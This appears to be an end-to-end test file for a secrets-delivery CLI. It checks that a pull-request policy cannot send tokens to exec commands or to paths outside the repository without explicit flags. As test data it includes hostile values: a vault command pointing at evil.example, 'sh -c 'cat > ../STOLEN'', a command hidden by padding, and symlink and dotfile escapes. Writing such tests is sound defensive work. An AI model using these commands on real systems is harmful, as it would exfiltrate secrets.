import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import { keyturn } from '../support/cli-process.ts';
import { startTestSandbox } from '../support/sandbox.ts';
import { createTestHome } from '../support/temp.ts';

const OPTIONS = 'options: { user: ci@example.com, audience: apiv2 }';

/** A repository with a policy that was applied, beside a home folder, and the built command in between. */
async function startRepository() {
  const home = createTestHome();
  onTestFinished(() => home.remove());
  const sandbox = await startTestSandbox();
  onTestFinished(() => sandbox.close());
  const repo = join(home.path, 'repo');
  const policy = join(repo, 'policy.yaml');
  for (const folder of ['repo', 'repo/secrets', 'dots']) mkdirSync(join(home.path, folder), { mode: 0o700 });
  const run = (args: readonly string[], stdin = '') => keyturn(args, { env: home.env, cwd: repo, stdin });
  const must = async (args: readonly string[], stdin = '') => {
    const { code, stdout, stderr } = await run(args, stdin);
    if (code !== 0) throw new Error(`keyturn ${args.join(' ')} ended with ${code}: ${stderr}`);
    return stdout;
  };
  const write = (...tokens: readonly string[]) =>
    writeFileSync(policy, `schema: 1\ntokens:\n${tokens.map((token) => `  - ${token}\n`).join('')}`);
  const place = ['--region', 'us', '--domain', 'acme', '--url', sandbox.origin];
  await must(['login', 'devo', ...place, '--with-token', '--store', 'file'], sandbox.login('devo'));
  const narrow = `{ name: docs, scopes: ["table://my.app"], ${OPTIONS}, deliver: ["file:./secrets/docs"] }`;
  write(narrow);
  await must(['apply', policy, '--yes']);
  const changes = () => sandbox.requests.filter(({ method }) => method !== 'GET').length;
  const inHome = (...parts: readonly string[]) => join(home.path, ...parts);
  return { changes, inHome, must, narrow, policy, run, sandbox, write };
}

test('D4: a plan for people shows each grant whole, one a line below the table', async () => {
  const long = 'a-part-that-goes-on-and-on/'.repeat(8);
  const command = `vault kv put -mount=secret ${long} -address=http://evil.example:8200`;
  const hidden = `tee${' '.repeat(250)}../STOLEN`;
  const scopes = [
    'table://my.app',
    ...Array.from({ length: 30 }, (_, n) => `table://t${n}.**`),
    'level://admin',
  ];
  const { inHome, policy, run, write } = await startRepository();
  const rows: readonly (readonly [fields: string, lines: readonly string[]])[] = [
    [`deliver: ["exec:${command}"]`, [`runs ${command}`]],
    [`deliver: ["exec:${hidden}"]`, [`runs ${hidden}`]],
    [
      `deliver: ["env:.env#A", "env:.env#B", "exec:${command} b", "file:./secrets/x"]`,
      [
        `delivers to env:${inHome('repo', '.env')}#A`,
        `delivers to env:${inHome('repo', '.env')}#B`,
        `runs ${command} b`,
        `delivers to file:${inHome('repo', 'secrets', 'x')}`,
      ],
    ],
    [`deliver: ["file:./${long}x"]`, [`delivers to file:${inHome('repo', long)}x`]],
    [`scopes: ${JSON.stringify(scopes)}`, [`scopes ${scopes.join(', ')}`]],
  ];
  write(
    ...rows.map(([fields], index) => {
      const scope = fields.startsWith('scopes') ? '' : ', scopes: ["table://my.app"]';
      return `{ name: t${index}, ${OPTIONS}, ${fields}${scope} }`;
    }),
  );
  const { stdout, stderr } = await run(['plan', policy, '-o', 'human']);
  const lines = stdout.split('\n');
  for (const [index, [, expected]] of rows.entries())
    for (const part of [...expected, 'options user=ci@example.com audience=apiv2'])
      expect(lines, stderr).toContain(`"t${index}" ${part}`);
}, 120_000);

describe('E2: a policy whose `save` names another credential', () => {
  test('changes and delivers nothing of a token of another name', async () => {
    const { changes, inHome, must, policy, run, write } = await startRepository();
    const billing = ['--user', 'ci@example.com', '--audience', 'apiv2', '--scope', 'level://admin'];
    await must(['tokens', 'create', '--name', 'billing', ...billing, '--save']);
    const before = changes();
    for (const more of ['deliver: ["file:./secrets/preview"]', 'renewBefore: 3000d']) {
      write(`{ name: preview, save: billing, scopes: ["table://my.app"], ${OPTIONS}, ${more} }`);
      const refused = await run(['apply', policy, '--yes']);
      expect([more, refused.code]).toEqual([more, 6]);
      expect(refused.stdout).toContain('the credential "billing" holds the token "billing"');
    }
    expect(changes()).toBe(before);
    expect(existsSync(inHome('repo', 'secrets', 'preview'))).toBe(false);
  });

  test('a token of its own name that is saved under another one is named, with the scopes that it has', async () => {
    const { must, policy, run, write } = await startRepository();
    write(`{ name: web, save: other, scopes: ["level://admin"], ${OPTIONS}, deliver: ["file:./secrets/a"] }`);
    await must(['apply', policy, '--yes']);
    write(
      `{ name: web, save: other, scopes: ["table://my.app"], ${OPTIONS}, deliver: ["file:./secrets/b"] }`,
    );
    const { stdout } = await run(['plan', policy, '-o', 'human']);
    for (const line of ['"web" is saved as "other"', '"web" has the scopes level://admin'])
      expect(stdout.split('\n')).toContain(line);
    expect(JSON.parse(await must(['plan', policy, '--json'])).tokens).toMatchObject([
      { name: 'web', savedAs: 'other', tokenName: 'web', tokenScopes: ['level://admin'] },
    ]);
  });
});

test('E4: what is asked is a line for each destination, whatever the policy asks for besides', async () => {
  const { policy, run, write } = await startRepository();
  const scopes = JSON.stringify([1, 2].map((n) => `table://${'a'.repeat(980)}${n}`));
  const command = 'cat > ../STOLEN';
  write(
    `{ name: preview, scopes: ${scopes}, ${OPTIONS}, deliver: ["file:./secrets/x", "exec:sh -c '${command}'"] }`,
  );
  const { code, stderr } = await run(['apply', policy, '--allow-exec']);
  expect(code).toBe(2);
  const lines = stderr.split('\n');
  expect(lines.some((line) => line.endsWith(`"preview" runs sh -c '${command}'`))).toBe(true);
  expect(lines.some((line) => line.endsWith('/secrets/x'))).toBe(true);
});

describe('A9: a policy from a pull request', () => {
  test('shows what it asks for, and does none of it until somebody said so', {
    timeout: 120_000,
  }, async () => {
    const { changes, inHome, must, policy, run, write } = await startRepository();
    const command = "exec:sh -c 'cat > ../STOLEN'";
    const outside = 'env:../dots/.profile#PATH_X';
    write(
      // The token that is there is to be taken elsewhere; and another one is to be an administrator's.
      `{ name: docs, scopes: ["table://my.app"], ${OPTIONS}, deliver: ["file:./secrets/docs", "file:../dots/docs"] }`,
      `{ name: preview, scopes: ["table://*.**", "level://admin"], ${OPTIONS}, deliver: ["${command}", "${outside}"] }`,
    );
    const before = changes();
    const planned = await must(['plan', policy, '--json']);
    expect(JSON.parse(planned)).toMatchObject({
      changes: 2,
      tokens: [
        { name: 'docs', action: 'deliver', outside: [`file:${inHome('dots', 'docs')}`], commands: [] },
        {
          name: 'preview',
          action: 'create',
          scopes: ['table://*.**', 'level://admin'],
          options: { user: 'ci@example.com', audience: 'apiv2' },
          destinations: [command, `env:${inHome('dots', '.profile')}#PATH_X`],
          commands: [command],
          outside: [`env:${inHome('dots', '.profile')}#PATH_X`],
        },
      ],
    });
    const shown = await run(['plan', policy]);
    for (const part of [
      'level://admin',
      command,
      inHome('dots', '.profile'),
      '--allow-exec',
      '--allow-outside',
    ])
      expect(shown.stdout + shown.stderr).toContain(part);

    const steps: readonly (readonly [readonly string[], number, readonly string[]])[] = [
      [['--yes'], 2, ['"preview"', '"--allow-exec"']],
      [['--yes', '--allow-outside'], 2, ['"preview"', '"--allow-exec"']],
      [
        ['--yes', '--allow-exec'],
        6,
        [inHome('dots', 'docs'), inHome('dots', '.profile'), '"--allow-outside"'],
      ],
      // Nobody can be asked, and what would be asked is told in full.
      [
        ['--allow-exec', '--allow-outside'],
        2,
        ['level://admin', "runs sh -c 'cat > ../STOLEN'", inHome('dots', '.profile'), inHome('dots', 'docs')],
      ],
    ];
    for (const [flags, code, parts] of steps) {
      const refused = await run(['apply', policy, ...flags]);
      expect([flags, refused.code]).toEqual([flags, code]);
      for (const part of parts) expect(refused.stderr).toContain(part);
    }
    expect(changes()).toBe(before);
    const paths = [inHome('STOLEN'), inHome('dots', '.profile'), inHome('dots', 'docs')];
    expect(paths.filter((path) => existsSync(path))).toEqual([]);

    await must(['apply', policy, '--yes', '--allow-exec', '--allow-outside']);
    expect(paths.filter((path) => existsSync(path))).toEqual(paths);
  });

  test('that leads out of its folder by a link or an absolute path is refused before anything is sent', async () => {
    const { changes, inHome, must, policy, run, write } = await startRepository();
    symlinkSync('../dots', inHome('repo', 'looks-inside'));
    const before = changes();
    for (const [destination, code] of [
      ['file:looks-inside/x', 6],
      ['env:looks-inside/x#A', 6],
      [`file:${inHome('dots', 'x')}`, 6],
      ['file:secrets/../../dots/x', 6],
      ['github-env:A_TOKEN', 6],
      ['github-output:a_token', 6],
      ['file:secrets/x', 0],
      [`file:${inHome('repo', 'secrets', 'y')}`, 0],
      ['env:../repo/secrets/z#A', 0],
    ] as const) {
      write(`{ name: docs, scopes: ["table://my.app"], ${OPTIONS}, deliver: ["${destination}"] }`);
      const sent = changes();
      const done = await run(['apply', policy, '--yes']);
      expect([destination, done.code]).toEqual([destination, code]);
      if (code !== 0) expect(done.stderr).toContain('"--allow-outside"; nothing was sent');
      expect(changes()).toBe(sent);
    }
    expect(changes()).toBe(before);
    expect(existsSync(inHome('dots', 'x'))).toBe(false);
    write(`{ name: docs, scopes: ["table://my.app"], ${OPTIONS}, deliver: ["file:../dots/x"] }`);
    await must(['apply', policy, '--yes', '--allow-outside']);
    expect(readFileSync(inHome('dots', 'x'), 'utf8').length).toBeGreaterThan(10);
  });

  test.each([
    ['a link', 6, (path: string) => symlinkSync('elsewhere', path)],
    ['a folder', 2, (path: string) => mkdirSync(path)],
  ])('whose destination became %s is not as it should be', async (_, code, make) => {
    const { inHome, must, policy, run } = await startRepository();
    const path = inHome('repo', 'secrets', 'docs');
    rmSync(path);
    make(path);
    const planned = await run(['plan', policy, '--json']);
    expect(planned.code).toBe(2);
    expect(JSON.parse(planned.stdout)).toMatchObject({ tokens: [{ name: 'docs', action: 'blocked' }] });
    expect((await run(['apply', policy, '--yes'])).code).toBe(code);
    rmSync(path, { recursive: true });
    await must(['apply', policy, '--yes']);
    expect(readFileSync(path, 'utf8').length).toBeGreaterThan(10);
  });

  test('says of a command that it cannot be asked', async () => {
    const { inHome, must, policy, run, write } = await startRepository();
    write(
      `{ name: docs, scopes: ["table://my.app"], ${OPTIONS}, deliver: ["exec:sh -c 'cat > ${inHome('given')}'"] }`,
    );
    const applied = await run(['apply', policy, '--yes', '--allow-exec']);
    expect(applied.code).toBe(0);
    expect(applied.stderr).toMatch(/whether exec:sh .* has the secret of "docs" cannot be asked/);
    expect(existsSync(inHome('given'))).toBe(false);
    await must(['tokens', 'list']);
  });

  test('that comes on standard input belongs to the working folder', async () => {
    const { must, narrow, run } = await startRepository();
    const text = (to: string) => `schema: 1\ntokens:\n  - ${narrow.replace('file:./secrets/docs', to)}\n`;
    await must(['apply', '-', '--yes'], text('file:secrets/docs'));
    expect(await run(['apply', '-', '--yes'], text('file:../dots/docs'))).toMatchObject({ code: 6 });
  });
});
